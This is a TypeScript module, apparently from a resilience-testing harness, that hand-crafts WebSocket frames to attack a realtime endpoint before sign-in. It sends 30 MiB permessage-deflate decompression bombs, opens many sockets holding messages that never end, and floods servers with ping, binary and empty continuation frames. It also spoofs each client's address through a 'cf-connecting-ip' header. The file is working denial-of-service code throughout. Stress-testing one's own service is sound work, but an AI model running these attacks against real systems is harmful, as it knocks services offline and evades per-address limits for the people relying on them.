/** Attacks before sign-in by bytes that no browser's WebSocket sends: RFC 6455 and RFC 7692 by hand. */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { constants, deflateRawSync } from 'node:zlib';
import { type Attack, addressOf, repeat, type Target } from './target.ts';

const opcodes = { continuation: 0, text: 1, binary: 2, ping: 9 };

/** Returns a frame that is masked with zeros, so that the payload stands in it as it is. */
function frame(payload: Buffer, { opcode = opcodes.text, fin = true, isCompressed = false } = {}): Buffer {
  const header = Buffer.alloc(14);
  header[0] = (fin ? 0x80 : 0) | (isCompressed ? 0x40 : 0) | opcode;
  header[1] = 0x80 | 127;
  header.writeBigUInt64BE(BigInt(payload.length), 2);
  return Buffer.concat([header, payload]);
}

/** Resolves when the service has answered the request for a socket, to its connection; undefined when it was refused. */
async function open(target: Target, n: number, headers: object = {}): Promise<Socket | undefined> {
  const { url, publishableKey } = target.place;
  const { hostname, port } = new URL(url);
  const lines = {
    host: 'localhost',
    upgrade: 'websocket',
    connection: 'Upgrade',
    'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
    'sec-websocket-version': '13',
    'cf-connecting-ip': addressOf(n),
    ...headers,
  };
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.write(
    [
      `GET /realtime/v1/websocket?vsn=2.0.0&apikey=${publishableKey} HTTP/1.1`,
      ...Object.entries(lines).map(([name, value]) => `${name}: ${value}`),
      '\r\n',
    ].join('\r\n'),
  );
  const [data = Buffer.alloc(0)] = await Promise.race([once(socket, 'data'), once(socket, 'close')]).catch(
    () => [],
  );
  const isOpen = Buffer.isBuffer(data) && data.toString('latin1').startsWith('HTTP/1.1 101');
  target.count(`socket ${isOpen ? 'opened' : 'refused'}`);
  socket.resume();
  return isOpen ? socket : undefined;
}

/** Writes these bytes to so many sockets, each of which keeps up to a megabyte that the service has not read. */
const write =
  (count: number, every: number, bytesOf: (n: number) => Buffer): Attack =>
  async target =>
  async () => {
    const sockets = await Promise.all(Array.from({ length: count }, (_, n) => open(target, n)));
    await repeat(target.size(4, 12), every, n => {
      for (const socket of sockets) {
        if (socket && !socket.destroyed && socket.writableLength < 2 ** 20) {
          socket.write(bytesOf(n));
        }
      }
    });
  };

const compressedMessages: Attack = async target => {
  const text = Buffer.alloc(30 * 2 ** 20, ' ');
  // Clients leave out the end of a message: RFC 7692, section 7.2.1.
  const bomb = frame(deflateRawSync(text, { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4), {
    isCompressed: true,
  });
  const one = async () => {
    const socket = await open(target, 0, {
      'sec-websocket-extensions': 'permessage-deflate; client_no_context_takeover',
    });
    socket?.write(bomb);
    await sleep(500);
    socket?.destroy();
  };
  return async () => {
    for (let sent = 0; sent < target.size(60, 280); sent += 20) {
      await Promise.all(Array.from({ length: 20 }, one));
    }
  };
};

const part = Buffer.alloc(60_000, ' ');

const odd = Buffer.concat([
  ...Array.from({ length: 20 }, () => frame(Buffer.alloc(100, 1), { opcode: opcodes.binary })),
  ...Array.from({ length: 50 }, () => frame(Buffer.alloc(125), { opcode: opcodes.ping })),
  frame(Buffer.alloc(0), { fin: false }),
  ...Array.from({ length: 100 }, () => frame(Buffer.alloc(0), { opcode: opcodes.continuation, fin: false })),
  frame(Buffer.alloc(0), { opcode: opcodes.continuation }),
]);

export const frameAttacks: Record<string, Attack> = {
  '280 compressed messages of 30 MiB': compressedMessages,
  '100 messages without an end': write(100, 200, n =>
    frame(part, { opcode: n === 0 ? opcodes.text : opcodes.continuation, fin: false }),
  ),
  '50 sockets with binary messages, pings and empty fragments': write(50, 200, () => odd),
};
